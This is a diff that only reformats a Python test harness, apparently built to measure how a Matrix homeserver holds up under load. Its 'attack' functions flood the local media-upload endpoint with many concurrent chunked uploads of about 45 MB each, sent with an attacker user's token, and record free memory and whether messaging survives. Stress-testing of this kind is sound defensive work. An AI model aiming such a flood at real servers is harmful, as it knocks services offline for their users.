@@ -40,7 +40,9 @@ def attack(server):
         connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
         pieces = (b"x" * 1_000_000 for _ in range(45))
         try:
-            connection.request("POST", "/_matrix/media/v3/upload", pieces, {"Authorization": f"Bearer {mallory.token}"}, encode_chunked=True)
+            connection.request(
+                "POST", "/_matrix/media/v3/upload", pieces, {"Authorization": f"Bearer {mallory.token}"}, encode_chunked=True
+            )
             return connection.getresponse().status
         except OSError:
             return 0
@@ -53,8 +55,12 @@ def attack(server):
     statuses = run_all([upload] * UPLOADS, UPLOADS)
     said = mallory.say(room, "afterwards").status
     ended.set()
-    return {"uploads": {str(status): statuses.count(status) for status in set(statuses)}, "took_s": time.monotonic() - begin,
-            "lowest_free_mib": lowest[0], "message": said}
+    return {
+        "uploads": {str(status): statuses.count(status) for status in set(statuses)},
+        "took_s": time.monotonic() - begin,
+        "lowest_free_mib": lowest[0],
+        "message": said,
+    }
 
 
 def held(figures):
